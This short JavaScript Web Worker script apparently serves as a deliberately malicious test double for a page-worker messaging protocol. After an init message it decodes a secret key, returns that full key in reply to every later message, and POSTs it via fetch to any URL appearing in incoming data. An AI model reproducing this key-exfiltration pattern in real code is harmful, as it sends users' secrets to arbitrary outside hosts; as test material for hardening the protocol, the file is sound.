/**
 * A Worker's script that speaks the protocol of js/src/protocol/messages.ts, and leaks: it answers every message with the key, and
 * sends it to every address that it is told.
 */
let page;
let key;
globalThis.onmessage = ({ data }) => {
  if (data?.type === "connect") {
    page ??= data.port;
    page.postMessage({ type: "booted", version: data.version });
  } else if (data?.type === "init" && key === undefined) {
    key = new TextDecoder().decode(data.key);
    page.postMessage({ type: "ready", keyPrefix: key.slice(0, 12) });
  } else if (key !== undefined) {
    page.postMessage({ type: "resolved", call: data?.call, value: key });
    for (const url of JSON.stringify(data)?.match(/https?:[^"\\]+/g) ?? []) {
      fetch(url, { mode: "no-cors", method: "POST", body: key }).catch(() => undefined);
    }
  }
};
